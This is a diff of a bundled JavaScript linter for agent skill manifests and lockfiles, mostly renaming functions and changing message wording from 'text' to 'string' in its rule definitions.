+		filePaths: files.length < entries.length ? new Set(files.map(({ path }) => path)) : paths
+	};
+}
+function clientFiles(paths, entries, isIgnored) {
 	return {
 		carried: withoutScripts(findCarried(paths, paths), entries).filter(({ path }) => !isIgnored(path)),
 		pluginFiles: findPluginFiles(paths).filter((path) => !isIgnored(path))
@@ -19534,7 +19770,7 @@ function formatOf$1(file) {
 	const reporter = reporters.find(({ extension }) => extension === fileExtension);
 	if (reporter) return reporter.id;
 	const known = reporters.flatMap(({ extension }) => extension ?? []).sort();
-	throw new UsageError(`--output "${file}" has an ending that means no format.`, `Endings are ${known.join(", ")}. To choose a format: FORMAT=FILE, such as text=FILE.`);
+	throw new UsageError(`--output "${file}" has an unknown extension.`, `Known extensions: ${known.join(", ")}. To choose a format: FORMAT=FILE, such as text=FILE.`);
 }
 function reporterOf(id) {
 	return reporters.find((reporter) => reporter.id === id) ?? text$2;
@@ -20307,7 +20543,7 @@ function coversCommand(commands, line) {
 }
 // src/contract/coverage/difference.ts
 const maxCompared = 500;
-function difference(allowed, requested, createTest) {
+function uncoveredEntries(allowed, requested, createTest) {
 	const known = new Set(allowed);
 	const uncovered = [...new Set(requested)].filter((entry) => !known.has(entry));
 	if (known.size > maxCompared || uncovered.length > maxCompared) return uncovered;
@@ -20488,8 +20724,8 @@ function compareEntries$1(before, after, everything = []) {
 		becameEmpty: "filled"
 	};
 	return {
-		gained: difference(before.value, after.value, coverageTests[before.of]),
-		lost: difference(after.value, before.value, coverageTests[after.of]),
+		gained: uncoveredEntries(before.value, after.value, coverageTests[before.of]),
+		lost: uncoveredEntries(after.value, before.value, coverageTests[after.of]),
 		becameEmpty: null
 	};
 }
@@ -20588,12 +20824,12 @@ function anyDepth({ isFloating, segments }) {
 function compareTools(before, after) {
 	const createTest = coverageTestWith(coversName);
 	return {
-		gained: difference(before, after, createTest),
-		lost: difference(after, before, createTest)
+		gained: uncoveredEntries(before, after, createTest),
+		lost: uncoveredEntries(after, before, createTest)
 	};
 }
 function ungrantedTools(granted, requested) {
-	return difference(granted, requested, coverageTestWith(matchesName));
+	return uncoveredEntries(granted, requested, coverageTestWith(matchesName));
 }
 function coverageTestWith(matchesName) {
 	return (allowed) => {
@@ -22376,7 +22612,7 @@ function effectiveAlgorithm(skill, pin) {
 function selectedFiles(algorithm, { files, ignore = null }) {
 	return algorithmNamed(algorithm)?.select(files, ignore) ?? selectFiles(files, null);
 }
-function uncoveredSince({ skill: baseSkill, pin: basePin }, { skill, pin }) {
+function noLongerCovered({ skill: baseSkill, pin: basePin }, { skill, pin }) {
 	const coveredNames = new Set(coveredFiles$1(skill, pin).map(({ name }) => name));
 	const baseCovered = coveredFiles$1(baseSkill, basePin);
 	const regularFiles = skill.files.filter(({ kind }) => kind !== "symlink");
@@ -22396,7 +22632,7 @@ function uncoveredFiles(skill, units) {
 	})));
 	return skill.files.filter(({ name }) => !covered.has(name));
 }
-function uncoveredArrivals(skill, baseCovered, units) {
+function uncoveredNewFiles(skill, baseCovered, units) {
 	const isLink = ({ kind }) => kind === "symlink";
 	const baseNames = new Map(baseCovered?.files.map((file) => [file.name, isLink(file)]));
 	const isNew = (file) => file.name !== ".skillignore" && baseNames.get(file.name) !== isLink(file);
@@ -22638,7 +22874,7 @@ function describeItem(change) {
 	const kind = `${kindLabel.charAt(0).toUpperCase()}${kindLabel.slice(1)}`;
 	const item = change.after ?? change.before;
 	const owner = item?.owner ? ` of ${operationName(change)}` : "";
-	return `${kind}${item?.name ? ` ${itemName(change)}` : owner}${change.facet === null || change.facet === "value" ? "" : `, ${code$1(change.facet)},`}`;
+	return `${kind}${item?.name || item?.kind === "field" && item.owner === "" ? ` ${itemName(change)}` : owner}${change.facet === null || change.facet === "value" ? "" : `, ${code$1(change.facet)},`}`;
 }
 function keywordTransition(change) {
 	const keyword = change.detail ?? "schema";
@@ -22799,7 +23035,7 @@ function renewal({ format, path }) {
 // src/rules/lock/lock-covers-less.ts
 const notes$1 = (folder) => `-- ${folder}skills/worklog/notes.md --\nn\n`;
 const ignored = "-- after/skills/worklog/.skillignore --\nnotes.md\n";
-const before$3 = lockOf$1(hashes.notes, [], "before/") + worklog$1(void 0, "before/") + notes$1("before/");
+const baseExample = lockOf$1(hashes.notes, [], "before/") + worklog$1(void 0, "before/") + notes$1("before/");
 const lockCoversLess = lockRule({
 	id: "lock-covers-less",
 	severity: "warning",
@@ -22808,12 +23044,12 @@ const lockCoversLess = lockRule({
 	why: "Files outside every pin may change unnoticed, while the skill still counts as verified.",
 	source: "ADR-003, Lockfile Workflow: \"Fail if versions don't match lock\".",
 	howToFix: "If `.skillignore` excludes the files, remove its line and renew the lock. If the lock pins SKILL.md alone, install the skill again with the tool that writes the lock. If a new or renamed file is outside the hash, remove it. If the files are meant to be unlocked, a reviewer has to approve it.",
-	invalid: before$3 + lockOf$1(hashes.worklog, [], "after/") + worklog$1(void 0, "after/") + notes$1("after/") + ignored,
-	valid: before$3 + lockOf$1(hashes.worklog, [], "after/") + worklog$1(void 0, "after/"),
+	invalid: baseExample + lockOf$1(hashes.worklog, [], "after/") + worklog$1(void 0, "after/") + notes$1("after/") + ignored,
+	valid: baseExample + lockOf$1(hashes.worklog, [], "after/") + worklog$1(void 0, "after/"),
 	*check(subject) {
 		const reduced = reducedCoverage(subject);
 		if (reduced) yield reduced.draft;
-		yield* newUncoveredFiles(subject, new Set(reduced?.names));
+		yield* checkNewFiles(subject, new Set(reduced?.names));
 	}
 });
 function reducedCoverage({ entry, before, target, targets, skill, baseSkill }) {
@@ -22821,7 +23057,7 @@ function reducedCoverage({ entry, before, target, targets, skill, baseSkill }) {
 	for (const pin of target.pins) {
 		const basePin = before.pins.find((candidate) => pinKey$1(candidate) === pinKey$1(pin));
 		if (pin.file !== void 0 || !basePin || !pinHolds(skill, pin)) continue;
-		const names = uncoveredSince({
+		const names = noLongerCovered({
 			skill: baseSkill,
 			pin: basePin
 		}, {
@@ -22846,22 +23082,22 @@ function reducedCoverage({ entry, before, target, targets, skill, baseSkill }) {
 	}
 	return null;
 }
-function* newUncoveredFiles(subject, reportedNames) {
+function* checkNewFiles(subject, alreadyReported) {
 	const { entry, target, targets, skill, previous } = subject;
 	const isListed = skill !== null && entry.lockedFolders?.includes(skill.root) === true;
 	if (!target || !skill || previous === void 0 && !isListed) return;
 	const ownTargets = targets.filter((candidate) => candidate.skill === skill);
 	if (ownTargets[0] !== target) return;
-	const arrivals = previous === void 0 ? [] : uncoveredArrivals(skill, previous, ownTargets);
-	const isReported = (file) => !(entry.omitsDotfiles && isOmitted(file)) || arrivals.includes(file);
-	const newFiles = (isListed ? uncoveredFiles(skill, [...ownTargets, ...nestedTargets(skill, targets)]).filter(isReported) : arrivals).filter(({ name }) => !reportedNames.has(name));
+	const addedFiles = previous === void 0 ? [] : uncoveredNewFiles(skill, previous, ownTargets);
+	const shouldReport = (file) => !(entry.omitsDotfiles && isOmitted(file)) || addedFiles.includes(file);
+	const newFiles = (isListed ? uncoveredFiles(skill, [...ownTargets, ...nestedTargets(skill, targets)]).filter(shouldReport) : addedFiles).filter(({ name }) => !alreadyReported.has(name));
 	if (newFiles.length === 0) return;
 	const pins = ownTargets.flatMap((lockedTarget) => lockedTarget.pins);
 	const names = newFiles.map(({ name }) => name);
 	const fileList = describeUncovered(skill, pins, names);
-	const verb = pluralize(names.length, "file");
+	const fileCount = pluralize(names.length, "file");
 	yield {
-		message: `The lock of ${quote(entry.id)}${copySuffix(subject)} does not cover ${verb} added ${isListed ? `to ${clip(skill.root)}` : "since base"}: ${fileList}. Nothing verifies ${names.length === 1 ? "it" : "them"}.`,
+		message: `The lock of ${quote(entry.id)}${copySuffix(subject)} does not cover ${fileCount} added ${isListed ? `to ${clip(skill.root)}` : "since base"}: ${fileList}. Nothing verifies ${names.length === 1 ? "it" : "them"}.`,
 		at: pins[0]?.at ?? entry.at,
 		about: [
 			entry.id,
@@ -23361,17 +23597,6 @@ const preconditionCommandMissing = machineRule({
 		}
 	}
 });
-// src/model/text/memoize.ts
-function memoize(compute) {
-	const cache = new WeakMap();
-	return (object) => {
-		const cached = cache.get(object);
-		if (cached) return cached.value;
-		const value = compute(object);
-		cache.set(object, { value });
-		return value;
-	};
-}
 // src/dialects/secrets.ts
 const minDigits = 4;
 function sensitiveNames(roots) {
@@ -23470,14 +23695,14 @@ function* subschemas(value, path = "") {
 function schemaFaults({ value, path }) {
 	if (value.kind !== "table") return [{
 		path,
-		clause: `is ${formatValue(value)}. Write a mapping such as \`{type: string}\``,
+		problem: `is ${formatValue(value)}. Write a mapping such as \`{type: string}\``,
 		at: value.at
 	}];
 	return [...fields$1(value).flatMap(({ key, value: keywordValue }) => {
-		const clause = keywordFault(key, keywordValue);
-		return clause === void 0 ? [] : [{
+		const problem = keywordFault(key, keywordValue);
+		return problem === void 0 ? [] : [{
 			path: joinPath(path, key),
-			clause,
+			problem,
 			at: keywordValue.at
 		}];
 	}), ...crossedBounds(value, path)];
@@ -23487,14 +23712,14 @@ function foreignKeywords({ value, path }) {
 	const type = get(value, "type");
 	const faults = unknown.map(({ key, keyAt }) => ({
 		path: joinPath(path, key),
-		clause: `is outside the subset of ADR-002 (${[...knownKeywords].slice(0, -1).map(code$1).join(", ")})`,
+		problem: `is outside the subset of ADR-002 (${[...knownKeywords].slice(0, -1).map(code$1).join(", ")})`,
 		at: keyAt
 	}));
 	if (!type || keywordFault("type", type) !== void 0 || typeNames.includes(text$1(type) ?? "")) return faults;
-	const clause = `is ${formatValue(type)}, but the subset of ADR-002 has only ${joinWithOr(typeNames.map(code$1))}`;
+	const problem = `is ${formatValue(type)}, but the subset of ADR-002 has only ${joinWithOr(typeNames.map(code$1))}`;
 	return [...faults, {
 		path: joinPath(path, "type"),
-		clause,
+		problem,
 		at: type.at
 	}];
 }
@@ -23505,7 +23730,7 @@ function keywordFault(key, value) {
 	switch (key) {
 		case "type": return isType(value) ? void 0 : `is ${formatValue(value)}. Write ${joinWithOr(typeNames.map(code$1))}`;
 		case "pattern":
-		case "description": return value.kind === "string" ? void 0 : `is ${formatValue(value)}. Write a text`;
+		case "description": return value.kind === "string" ? void 0 : `is ${formatValue(value)}. Write a string`;
 		case "minimum":
 		case "maximum": return isNumber$2(value) ? void 0 : `is ${formatValue(value)}. Write a number`;
 		case "enum": return items(value).length > 0 ? void 0 : `${formatEnum(value)}. List at least one value`;
@@ -23530,9 +23755,9 @@ function crossedBounds(schema, path) {
 	const [low, high] = [Number(minimum.value), Number(maximum.value)];
 	const at = minimum.at;
 	const bounds = (relation, number) => `is ${code$1(minimum.source)}, ${relation} the maximum ${code$1(maximum.source)}, so no ${number} fits`;
-	const fault = (clause) => [{
+	const fault = (problem) => [{
 		path: joinPath(path, "minimum"),
-		clause,
+		problem,
 		at
 	}];
 	if (low > high) return fault(bounds("above", "number"));
@@ -23714,7 +23939,7 @@ function isAbsolute$3(path) {
 	return /^(?:[/~\\]|[A-Za-z]:[/\\])/.test(path);
 }
 // src/rules/support/working-files.ts
-function workingFilesOf(skill) {
+function filesInWorkingDirectory(skill) {
 	const manifest = manifestOf(skill, "manifest-v1");
 	return (manifest ? filesOf$1(manifest.root) : []).flatMap((entry) => {
 		const path = baseOf(entry, "skill_root") === "cwd" && !isAbsolute$3(entry.name) ? resolve$1("", entry.name) : void 0;
@@ -23744,7 +23969,7 @@ const preconditionCwdMissing = machineRule({
 		files: ["log.org"]
 	}),
 	*check({ skill, machine }) {
-		for (const { path, at } of workingFilesOf(skill)) {
+		for (const { path, at } of filesInWorkingDirectory(skill)) {
 			if (machine.files.has(path)) continue;
 			yield {
 				message: `Precondition ${code$1(path)} is not a file of the working directory. The skill does not start here.`,
@@ -23892,15 +24117,15 @@ function oneSkill(front, body = "", path = "skills/pdf/SKILL.md") {
 const allowedToolsShape = manifestRule("agent-skills", {
 	id: "allowed-tools-shape",
 	severity: "error",
-	summary: "The value of `allowed-tools` is a text or a list of texts.",
+	summary: "The value of `allowed-tools` is a string or a list of strings.",
 	why: "Agents ignore permissions in any other shape, or refuse the skill.",
-	howToFix: "Write one text with spaces between the tools, such as `allowed-tools: Bash(git:*) Read`, or a list of such texts.",
+	howToFix: "Write one string with spaces between the tools, such as `allowed-tools: Bash(git:*) Read`, or a list of such strings.",
 	source: "Agent Skills specification, \"allowed-tools field\": \"A space-separated string of tools that are pre-approved to run\". The SKILL.md parser \"decodes either a YAML sequence or a comma-separated scalar\" and refuses mappings and nested lists.",
 	*check({ manifest }) {
 		const value = get(manifest.root, "allowed-tools");
 		const invalidPart = value && findInvalidPart(value);
 		if (!invalidPart) return;
-		const message = `${invalidPart === value ? "The value of `allowed-tools`" : "An entry of `allowed-tools`"} is ${formatValue(invalidPart)}. Write a text such as \`Bash(git:*) Read\`, or a list of such entries.`;
+		const message = `${invalidPart === value ? "The value of `allowed-tools`" : "An entry of `allowed-tools`"} is ${formatValue(invalidPart)}. Write a string such as \`Bash(git:*) Read\`, or a list of such entries.`;
 		const severity = invalidPart.kind === "list" || invalidPart.kind === "table" ? void 0 : "note";
 		yield {
 			message,
@@ -24556,15 +24781,15 @@ const compatibilityLength = manifestRule("agent-skills", {
 const compatibilityShape = manifestRule("agent-skills", {
 	id: "compatibility-shape",
 	severity: "warning",
-	summary: "The value of `compatibility` is a text.",
+	summary: "The value of `compatibility` is a string.",
 	why: "Agents show the text as it is. For a list or a mapping they show nothing, or refuse the skill.",
-	howToFix: "Write one text, such as `compatibility: Requires Python 3.11`.",
+	howToFix: "Write one string, such as `compatibility: Requires Python 3.11`.",
 	source: "Agent Skills specification, \"compatibility field\": \"Must be 1-500 characters if provided\".",
 	*check({ manifest }) {
 		const value = get(manifest.root, "compatibility");
 		if (value?.kind !== "list" && value?.kind !== "table") return;
 		yield {
-			message: `\`compatibility\` is ${formatValue(value)}. Write a text of at most 500 characters.`,
+			message: `\`compatibility\` is ${formatValue(value)}. Write a string of at most 500 characters.`,
 			at: value.at,
 			about: "compatibility"
 		};
@@ -25331,7 +25556,7 @@ function* wordsOf(operations) {
 		}
 	}
 }
-function parametersOf$2(root) {
+function parametersOf$1(root) {
 	return operationsOf$1("skill-manifest-v2", root).flatMap((operation) => (operation.inputs ?? []).map(({ key, keyAt, value }) => ({
 		operation,
 		name: key,
@@ -25543,7 +25768,7 @@ const entrypointPlaceholderUnknown = manifestRule("skill-manifest-v2", {
 const maxNames$2 = 50;
 function* unfilledPlaceholders(words, declared) {
 	const isLanguage = readsBraces(words[0]?.text ?? "");
-	const closest = (name, names) => names.size > maxNames$2 ? void 0 : nearMiss(name, names);
+	const closest = (name, names) => names.size > maxNames$2 ? void 0 : likelyTypoOf(name, names);
 	let unused;
 	for (const { text, previous: before, at } of words) {
 		const isCode = isLanguage || isCodeFlag(before);
@@ -25755,7 +25980,7 @@ const systems = ["unix", "windows"];
 const entrypointShape = manifestRule(["skill-manifest-v2", "router-manifest"], {
 	id: "entrypoint-shape",
 	severity: "error",
-	summary: "The entrypoints `unix` and `windows` are lists of texts: the program, then its arguments.",
+	summary: "The entrypoints `unix` and `windows` are lists of strings: the program, then its arguments.",
 	why: "Agents run the list without a shell, and cannot run anything else.",
 	source: "Skill Manifest v2, \"entrypoints\": \"Value: argv array.\"",
 	enforces: [{
@@ -25767,7 +25992,7 @@ const entrypointShape = manifestRule(["skill-manifest-v2", "router-manifest"], {
 		quote: "OS-specific command arrays",
 		fields: ["operations.*.entrypoints.unix.[]", "operations.*.entrypoints.windows.[]"]
 	}],
-	howToFix: "Write the program and each of its arguments as a separate text: `[\"bash\", \"scripts/search.sh\", \"{query}\"]`.",
+	howToFix: "Write the program and each of its arguments as a separate string: `[\"bash\", \"scripts/search.sh\", \"{query}\"]`.",
 	invalid: withOperation({ entrypoints: { unix: "bash scripts/memory.sh" } }),
 	valid: withOperation({ entrypoints: { unix: ["bash", "scripts/memory.sh"] } }),
 	*check({ manifest }) {
@@ -25787,7 +26012,7 @@ function* faults(system, value) {
 	if (value.kind !== "list") {
 		if (!known && text$1(value)?.trim()) return;
 		yield {
-			problem: `is ${text$1(value)?.trim() === "" ? "blank" : formatValue(value)}. Write ${`a list of texts${known ? " such as `[\"bash\", \"scripts/run.sh\"]`" : " or a text"}`}.`,
+			problem: `is ${text$1(value)?.trim() === "" ? "blank" : formatValue(value)}. Write ${`a list of strings${known ? " such as `[\"bash\", \"scripts/run.sh\"]`" : " or a string"}`}.`,
 			at
 		};
 		return;
@@ -25798,7 +26023,7 @@ function* faults(system, value) {
 		at
 	};
 	else if (text$1(program)?.trim() === "") yield {
-		problem: "starts with a blank text. Write the program first.",
+		problem: "starts with a blank string. Write the program first.",
 		at: program.at
 	};
 	for (const word of program ? [program, ...programArguments] : []) {
@@ -27356,7 +27581,7 @@ const inputPatternInvalid = manifestRule("manifest-v1", {
 	severity: "error",
 	summary: "The `pattern` of an input is a valid regular expression.",
 	why: "A runtime that compiles the pattern stops with an error.",
-	howToFix: "Correct the regular expression. In a YAML text with double quotation marks, write each backslash twice.",
+	howToFix: "Correct the regular expression. In a YAML string with double quotation marks, write each backslash twice.",
 	source: "ADR-002, \"JSON Schema Subset Supported\": \"`pattern`: regex for string validation\"",
 	enforces: [adr002("`pattern`: regex for string validation", "inputs.*.[].schema.pattern")],
 	invalid: withManifest(`
@@ -27444,14 +27669,14 @@ inputs:
 		for (const schema of schemasOf(manifest.root)) {
 			const faults = schemaFaults(schema);
 			const drafts = faults.length > 0 ? faults : unsatisfiableEnum(schema);
-			for (const fault of drafts) yield draftOf$5(schema, fault);
+			for (const fault of drafts) yield draftOf$4(schema, fault);
 		}
 	}
 });
-function draftOf$5({ input }, { path, clause, at }) {
+function draftOf$4({ input }, { path, problem, at }) {
 	const name = code$1(input.name);
 	return {
-		message: path === "" ? `The schema of input ${name} ${clause}.` : `In the schema of input ${name}, ${code$1(path)} ${clause}.`,
+		message: path === "" ? `The schema of input ${name} ${problem}.` : `In the schema of input ${name}, ${code$1(path)} ${problem}.`,
 		at,
 		about: `${input.name}\0${path}`
 	};
@@ -27463,7 +27688,7 @@ function unsatisfiableEnum({ value, path }) {
 	if (items(list).some((candidate) => accepts(otherKeywords, toJson(candidate)) !== false)) return [];
 	return [{
 		path: path === "" ? "enum" : `${path}.enum`,
-		clause: "lists only values that its other keywords refuse",
+		problem: "lists only values that its other keywords refuse",
 		at: list.at
 	}];
 }
@@ -27497,8 +27722,8 @@ inputs:
         pattern: "^https://"
 `),
 	*check({ manifest }) {
-		for (const schema of schemasOf(manifest.root)) for (const { path, clause, at } of foreignKeywords(schema)) yield {
-			message: `In the schema of input ${code$1(schema.input.name)}, ${code$1(path)} ${clause}.`,
+		for (const schema of schemasOf(manifest.root)) for (const { path, problem, at } of foreignKeywords(schema)) yield {
+			message: `In the schema of input ${code$1(schema.input.name)}, ${code$1(path)} ${problem}.`,
 			at,
 			about: `${schema.input.name}\0${path}`
 		};
@@ -28158,7 +28383,7 @@ const wrappers = new Set([
 	"if"
 ]);
 const typeLabels = {
-	string: "a text",
+	string: "a string",
 	number: "a number",
 	integer: "a whole number",
 	boolean: "true or false",
@@ -28178,9 +28403,9 @@ function shapeDrafts(root, validate, excludedPaths = [], toValue = toJson) {
 		else faults.set(key, [error]);
 	}
 	const faultGroups = [...faults.values()];
-	const drafts = faultGroups.slice(0, maxDrafts).map((errors) => draftOf$4(root, errors));
+	const drafts = faultGroups.slice(0, maxDrafts).map((errors) => draftOf$3(root, errors));
 	const firstOmitted = faultGroups[maxDrafts];
-	return firstOmitted ? [...drafts, remainingDraft(draftOf$4(root, firstOmitted), faultGroups.length - maxDrafts)] : drafts;
+	return firstOmitted ? [...drafts, remainingDraft(draftOf$3(root, firstOmitted), faultGroups.length - maxDrafts)] : drafts;
 }
 function toTypedJson(value) {
 	switch (value.kind) {
@@ -28204,7 +28429,7 @@ function remainingDraft({ at }, count) {
 		about: "more"
 	};
 }
-function draftOf$4(root, errors) {
+function draftOf$3(root, errors) {
 	const pointer = errors[0]?.instancePath ?? "";
 	const { value, keyAt } = resolvePointer(root, pointer);
 	const field = fieldName(root, pointer);
@@ -28244,7 +28469,7 @@ function describeAllowed({ keyword, params, schemaPath }) {
 	if (form !== void 0) return [form];
 	if (keyword === "enum") return toArray(params["allowedValues"]).map((allowedValue) => code$1(JSON.stringify(allowedValue)));
 	if (keyword === "type") return toArray(params["type"]).map((type) => typeLabels[String(type)] ?? "");
-	return [keyword === "minItems" ? "at least one value" : "a text"];
+	return [keyword === "minItems" ? "at least one value" : "a string"];
 }
 function toArray(value) {
 	return Array.isArray(value) ? value : [value];
@@ -28389,15 +28614,15 @@ function isRearranged(a, b) {
 const licenseShape = manifestRule("agent-skills", {
 	id: "license-shape",
 	severity: "error",
-	summary: "The value of `license` is a text.",
-	why: "Parsers that expect a text refuse the whole skill.",
+	summary: "The value of `license` is a string.",
+	why: "Parsers that expect a string refuse the whole skill.",
 	source: "The SKILL.md parser: `License string`, \"an optional SPDX-ish tag\"; its YAML decoder refuses a list or a mapping.",
 	howToFix: "Write the name of the license, or the name of a bundled license file.",
 	*check({ manifest }) {
 		const value = get(manifest.root, "license");
 		if (value?.kind !== "list" && value?.kind !== "table") return;
 		yield {
-			message: `\`license\` is ${formatValue(value)}. Write a text such as \`MIT\`.`,
+			message: `\`license\` is ${formatValue(value)}. Write a string such as \`MIT\`.`,
 			at: value.at,
 			about: "license"
 		};
@@ -29051,7 +29276,7 @@ const metadataShape = manifestRule("agent-skills", {
 	severityText: "error; note for an empty value",
 	summary: "The value of `metadata` is a mapping.",
 	why: "Clients look up their own keys in the mapping. Some refuse the skill if it is anything else.",
-	howToFix: "Write keys with texts below `metadata:`, such as `author: example-org`.",
+	howToFix: "Write keys with strings below `metadata:`, such as `author: example-org`.",
 	source: "Agent Skills specification, \"metadata field\": \"A map from string keys to string values\". The SKILL.md parser decodes `map[string]any` and refuses anything else.",
 	*check({ manifest }) {
 		const field = manifest.root.fields.get("metadata");
@@ -29086,13 +29311,13 @@ function tomlPathsOf(root) {
 		}];
 	});
 }
-function modulePath(name) {
+function pathInSkill(name) {
 	if (resolve$1("", name.replaceAll("\\", "/")) === void 0) return void 0;
 	return /^(?:[/\\~]|[A-Za-z]:)/.test(name) ? void 0 : resolve$1("", name);
 }
 function moduleFiles$1(root, names) {
 	const name = text$1(get(get(root, "executable"), "module"));
-	const path = name === void 0 ? void 0 : modulePath(name);
+	const path = name === void 0 ? void 0 : pathInSkill(name);
 	return path !== void 0 && names.includes(path) ? [path] : [];
 }
 // src/rules/support/executable-module.ts
@@ -29335,7 +29560,7 @@ outputs:
 // src/rules/manifest/param-default-type.ts
 const types$3 = {
 	string: {
-		name: "a text",
+		name: "a string",
 		fits: ({ kind }) => kind === "string"
 	},
 	boolean: {
@@ -29372,7 +29597,7 @@ const paramDefaultType = manifestRule("skill-manifest-v2", {
 		default: 5
 	}),
 	*check({ manifest }) {
-		for (const { operation, name, value } of parametersOf$2(manifest.root)) {
+		for (const { operation, name, value } of parametersOf$1(manifest.root)) {
 			const fallback = get(value, "default");
 			const written = text$1(get(value, "type")) ?? "";
 			const type = Object.hasOwn(types$3, written) ? types$3[written] : void 0;
@@ -29419,7 +29644,7 @@ const paramRequiredDefault = manifestRule("skill-manifest-v2", {
 		default: 5
 	}),
 	*check({ manifest }) {
-		for (const { operation, name, value } of parametersOf$2(manifest.root)) {
+		for (const { operation, name, value } of parametersOf$1(manifest.root)) {
 			const fallback = get(value, "default");
 			if (!fallback || fallback.kind === "null" || flag$1(get(value, "required")) !== true) continue;
 			yield {
@@ -29435,7 +29660,7 @@ const paramTypeNumber = manifestRule("skill-manifest-v2", {
 	id: "param-type-number",
 	severity: "warning",
 	summary: "No parameter has the type `number`, which Skill Manifest v2 does not define.",
-	why: "Some agents read it as a number, and others refuse the parameter or pass a text.",
+	why: "Some agents read it as a number, and others refuse the parameter or pass a string.",
 	source: "Skill Manifest v2, \"input[param]\": \"`string`, `integer`, `boolean`, or `json`\"",
 	enforces: [{
 		document: "Skill Manifest v2",
@@ -29446,7 +29671,7 @@ const paramTypeNumber = manifestRule("skill-manifest-v2", {
 	invalid: withParameter("threshold", { type: "number" }),
 	valid: withParameter("threshold", { type: "json" }),
 	*check({ manifest }) {
-		for (const { operation, name, value } of parametersOf$2(manifest.root)) {
+		for (const { operation, name, value } of parametersOf$1(manifest.root)) {
 			const type = get(value, "type");
 			if (!type || text$1(type) !== "number") continue;
 			yield {
@@ -29493,7 +29718,7 @@ const paramType = manifestRule("skill-manifest-v2", {
 	invalid: withParameter("limit", { type: "int" }),
 	valid: withParameter("limit", { type: "integer" }),
 	*check({ manifest }) {
-		for (const { operation, name, value } of parametersOf$2(manifest.root)) {
+		for (const { operation, name, value } of parametersOf$1(manifest.root)) {
 			const type = get(value, "type");
 			const written = text$1(type);
 			if (!type || written !== void 0 && [...types$2, "number"].includes(written)) continue;
@@ -29831,7 +30056,7 @@ function provides({ root }, part) {
 	return flag$1(get(get(root, "provides"), part)) === true;
 }
 function missing$2(manifest, skill, folder) {
-	const suggestion = closestMatch(folder, foldersOf$1(skill));
+	const suggestion = closestMatch(folder, foldersOf$2(skill));
 	return {
 		message: `\`provides.${folder}\` is true, but the skill has no file in \`${folder}/\`${suggestion === void 0 ? "" : `. It has ${code$1(`${suggestion}/`)}`}.`,
 		at: flagLocation(manifest, folder),
@@ -29848,7 +30073,7 @@ function* missingModule(manifest, skill) {
 		};
 		return;
 	}
-	const path = module && modulePath(module.name);
+	const path = module && pathInSkill(module.name);
 	if (!path || hasFile(skill, path)) return;
 	yield {
 		message: `Module ${code$1(module.name)} is not in the skill, but \`provides.executable\` is true.`,
@@ -29859,7 +30084,7 @@ function* missingModule(manifest, skill) {
 function flagLocation({ root, path }, part) {
 	return get(get(root, "provides"), part)?.at ?? { path };
 }
-function foldersOf$1({ files }) {
+function foldersOf$2({ files }) {
 	const named = files.filter(({ name }) => name.includes("/"));
 	return new Set(named.map(({ name }) => name.slice(0, name.indexOf("/"))));
 }
@@ -30029,7 +30254,7 @@ function isEmpty$1(value) {
 }
 function describeEmpty(value) {
 	if (value.kind !== "table") return "is empty";
-	return "is a mapping without a value. In YAML, put a text that begins with `{{` in quotation marks";
+	return "is a mapping without a value. In YAML, put a string that begins with `{{` in quotation marks";
 }
 function capitalize$2(text) {
 	return text.charAt(0).toUpperCase() + text.slice(1);
@@ -30128,7 +30353,7 @@ function faultOf$2(key, value) {
 	if (key !== "steps") {
 		const isText = source(value);
 		if (isText) return void 0;
-		return isText === void 0 && value.kind !== "null" ? `${formatValue(value)}. Write a text` : "empty";
+		return isText === void 0 && value.kind !== "null" ? `${formatValue(value)}. Write a string` : "empty";
 	}
 	if (value.kind !== "list") return value.kind === "null" ? "empty" : `${formatValue(value)}. Write a list`;
 	return value.items.length === 0 ? "an empty list, so the recipe does nothing" : void 0;
@@ -30159,7 +30384,7 @@ const templateWords = new Set([
 ]);
 const doubleBraces = /(?<!\$)\{\{-?\s*(?:(?:parameters|params|inputs)\.)?([A-Za-z_]\w*(?:-\w+)*)\s*-?\}\}/g;
 const singleBraces = /(?<![$%@#\\{])\{([A-Za-z_]\w+)\}(?![}<>])/g;
-function parametersOf$1({ root }) {
+function parametersOf({ root }) {
 	return new Set(declarationKeys.flatMap((key) => declaredNames(get(root ?? void 0, key))));
 }
 function declaredNames(value) {
@@ -30173,7 +30398,7 @@ function declaredNames(value) {
 function referencesIn(recipe) {
 	const texts = runnableKeys.flatMap((key) => textsIn(get(recipe.root ?? void 0, key)));
 	const doubleReferences = firstReferences(recipe, texts, doubleBraces);
-	const usesDoubleBraces = doubleReferences.length > 0 || parametersOf$1(recipe).size === 0;
+	const usesDoubleBraces = doubleReferences.length > 0 || parametersOf(recipe).size === 0;
 	const singleTexts = usesDoubleBraces ? [] : texts.filter((value) => !usesBraces(text$1(value) ?? ""));
 	const references = usesDoubleBraces ? doubleReferences : firstReferences(recipe, singleTexts, singleBraces);
 	const assigned = references.length > 0 ? assignedNames(recipe) : new Set();
@@ -30279,10 +30504,10 @@ steps:
 `),
 	*check({ manifest, skill }) {
 		for (const recipe of recipesOf(manifest, skill)) {
-			const declared = parametersOf$1(recipe);
+			const declared = parametersOf(recipe);
 			for (const { name, written, at, isForeign } of referencesIn(recipe)) {
 				if (declared.has(name)) continue;
-				const suggestion = declared.size > maxNames$1 ? void 0 : nearMiss(name, declared);
+				const suggestion = declared.size > maxNames$1 ? void 0 : likelyTypoOf(name, declared);
 				if (isForeign && suggestion === void 0) continue;
 				yield {
 					message: `Placeholder ${code$1(written)} is not a parameter of the recipe, so the command gets it unreplaced. ${alternatives(suggestion, declared)}`,
@@ -30310,7 +30535,7 @@ const recipeStepEmpty = manifestRule("skill-toml", {
 		quote: "Step commands must be non-empty",
 		fields: ["recipes.files"]
 	}],
-	howToFix: "Write the command under `command`, or remove the step. `run`, `cmd`, `script`, `shell` and `exec` are read too, and a step may be a plain text with the command.",
+	howToFix: "Write the command under `command`, or remove the step. `run`, `cmd`, `script`, `shell` and `exec` are read too, and a step may be a plain string with the command.",
 	invalid: withRecipe(`
 id: release
 name: Release
@@ -30385,7 +30610,7 @@ const recipesNone = manifestRule("skill-toml", {
 	*check({ manifest, skill }) {
 		if (lacksRecipes(manifest, skill)) return;
 		for (const { glob, at, folder, isPattern, matched } of globsOf(manifest, skill)) {
-			const path = modulePath(glob);
+			const path = pathInSkill(glob);
 			if (path === void 0 || matched && matched.length > 0) continue;
 			const isRefused = matched === null && path !== "";
 			if (matched && (!isPattern || hasLinkTo(skill, folder))) continue;
@@ -30419,12 +30644,12 @@ const referencedFileMissing = manifestRule("skill-toml", {
 	valid: withModule("[executable]\nmodule = \"bin/deploy.wasm\""),
 	*check({ manifest, skill }) {
 		const module = moduleOf(manifest);
